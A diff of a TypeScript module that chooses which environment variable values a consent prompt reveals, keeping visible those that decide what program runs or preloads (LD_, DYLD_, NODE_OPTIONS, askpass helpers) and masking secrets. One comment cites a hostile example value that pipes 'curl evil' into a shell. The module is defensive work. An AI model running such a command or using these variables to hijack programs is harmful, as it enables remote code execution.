@@ -1,5 +1,8 @@
-// Variables that decide which program runs, or what a program loads before its own first line: `command = "node app.js"`
-// with NODE_OPTIONS runs something else.
+// Which values of variables a person is shown who is asked for consent: `command = "node app.js"` with NODE_OPTIONS runs
+// something else. No list of such variables is ever complete, so every value is shown that is no secret by its name; those
+// below decide which program runs, or what it loads before its own first line, and are shown whatever they are called.
+import { isSecretName } from '../base/secret-names.ts';
+import { maskSecrets } from '../base/secrets.ts';
 
 const NAMES: ReadonlySet<string> = new Set([
   ...['PATH', 'PATHEXT', 'COMSPEC', 'SHELL', 'HOME', 'IFS', 'ENV', 'BASH_ENV', 'BASHOPTS', 'SHELLOPTS', 'ZDOTDIR'],
@@ -39,16 +42,37 @@ const NAMES: ReadonlySet<string> = new Set([
     'ERL_FLAGS',
   ],
   ...['CORECLR_PROFILER', 'CORECLR_PROFILER_PATH', 'CORECLR_ENABLE_PROFILING', 'OPENSSL_CONF', 'OPENSSL_MODULES'],
+  ...['GNUMAKEFLAGS', 'ERL_AFLAGS', 'ERL_ZFLAGS', 'BUN_OPTIONS', 'YARN_YARN_PATH', 'PYTHONUSERBASE', 'MAVEN_ARGS'],
+  ...['PYTHONPYCACHEPREFIX', 'R_PROFILE_USER', 'GUNICORN_CMD_ARGS', 'PYTEST_ADDOPTS', 'COR_PROFILER', 'PSMODULEPATH'],
+  ...['DOCKER_CONFIG', 'KUBECONFIG', 'SSH_ASKPASS', 'SUDO_ASKPASS', 'GIT_ASKPASS'],
 ]);
 
-/** What carries a secret is not shown, whatever else it decides. */
+/** They name the program that gives the secret: RESTIC_PASSWORD_COMMAND, CARGO_REGISTRY_CREDENTIAL_PROVIDER. */
+const GIVERS = /_(?:COMMAND|CMD|PROGRAM|PROVIDERS?)$|^CARGO_CREDENTIAL_ALIAS_/;
+
+/** What begins as one of those below and carries a secret is not shown, whatever else it decides. */
 const SECRET = /TOKEN|SECRET|PASSW|CREDENTIAL|AUTH|_KEY$/;
 
 const BEGINNINGS =
   /^(?:LD_|DYLD_|BASH_FUNC_|GIT_|NPM_CONFIG_|CARGO_|DOTNET_|LUA_INIT_|LUA_PATH_|MSBUILD|JULIA_|DIRIGENT_)/;
 
+/** What of a variable is shown with its name; undefined where the name is that of a secret. */
+export function shownValue(name: string, value: string): string | undefined {
+  if (!decidesWhatRuns(name)) return isSecretName(name) ? undefined : maskSecrets(value);
+  const masked = maskSecrets(value);
+  return withoutTokens(masked) === withoutTokens(value) ? masked : value;
+}
+
 /** In any case of letters: Windows and npm make no difference. */
-export function decidesWhatRuns(name: string): boolean {
+function decidesWhatRuns(name: string): boolean {
   const upper = name.toUpperCase();
-  return NAMES.has(upper) || (BEGINNINGS.test(upper) && !SECRET.test(upper));
+  return NAMES.has(upper) || GIVERS.test(upper) || (BEGINNINGS.test(upper) && !SECRET.test(upper));
+}
+
+/**
+ * `PAGER = "Cookie: ; curl evil | sh"` looks like a secret up to its end, and what runs must not be masked: with a token
+ * go none of the letters that this leaves.
+ */
+function withoutTokens(text: string): string {
+  return text.replaceAll(/[\w.~%+=*-]/g, '');
 }
